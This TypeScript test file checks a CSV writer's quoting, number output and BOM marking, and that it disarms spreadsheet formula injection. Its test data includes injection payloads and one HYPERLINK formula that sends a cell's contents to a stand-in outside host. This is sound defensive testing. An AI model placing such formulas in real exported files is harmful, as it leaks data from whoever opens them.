import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvFile, writeCsv } from './csv-writer.ts';

describe('writeCsv', () => {
  it('quotes where it must, leaves numbers alone and ends rows in CR LF', () => {
    expect(
      writeCsv(
        ['group', 'count'],
        [
          ['a "b", c', -1.5],
          ['x', undefined],
          ['y', '<10'],
        ],
      ),
    ).toBe('group,count\r\n"a ""b"", c",-1.5\r\nx,\r\ny,<10\r\n');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@x', "'@x"],
    ['\tx', "'\tx"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['=1\n2', "'=1\n2"],
    ['＝1', "'＝1"],
  ])('disarms %j, as a label and as a header', (text, disarmed) => {
    const { data } = Papa.parse<string[]>(writeCsv([text], [[text]]), { newline: '\r\n', skipEmptyLines: true });
    expect(data).toEqual([[disarmed], [disarmed]]);
  });

  it('disarms formulas of spreadsheets that part a file elsewhere than at its commas', () => {
    const formula = '=HYPERLINK("http://else.example/?"&A1)';
    const labels = [`a;${formula};b`, `a; "${formula}`, `a\t${formula}`, `a|+1`, `a\n${formula}`, `a;;\n ＝1`, `a,;-1`];
    const text = writeCsv(
      ['group', 'label'],
      labels.map((label) => ['ward', label]),
    );
    for (const separator of [',', ';', '\t', '|']) {
      // The reader that helps an attacker most: quotation marks are letters to it.
      const cells = text.split(/[\r\n]+/).flatMap((line) => line.split(separator));
      expect(cells.filter((cell) => /^[\s"']*[=+@＝-]/.test(cell) && !/^[\s"]*'/.test(cell))).toEqual([]);
    }
    expect(writeCsv(['a'], [['north; south'], ['10-19; 20-29'], ['x | y = 3']])).toBe(
      'a\r\nnorth; south\r\n10-19; 20-29\r\nx | y = 3\r\n',
    );
  });

  it('prints numbers as a person expects them', () => {
    const rows = [[0.1 + 0.2, 57464.333333333336, 9007199254740991, -1.5]];
    expect(writeCsv(['a', 'b', 'c', 'd'], rows)).toBe('a,b,c,d\r\n0.3,57464.3333333333,9007199254740991,-1.5\r\n');
  });

  it('marks a file that has letters beyond ASCII', () => {
    expect(csvFile('a,b\r\n')).toBe('a,b\r\n');
    expect(csvFile('Łódź,1\r\n')).toBe('\ufeffŁódź,1\r\n');
  });

  it('can be read back', () => {
    const cell = fc.string({ unit: fc.constantFrom('"', ',', '\n', '\r', ' ', 'a', 'é') }).map((text) => `x${text}`);
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1 }), (rows) => {
        const { data } = Papa.parse<string[]>(writeCsv(['a', 'b'], rows), { newline: '\r\n', delimiter: ',' });
        expect(data.slice(1, -1)).toEqual(rows);
      }),
    );
  });
});
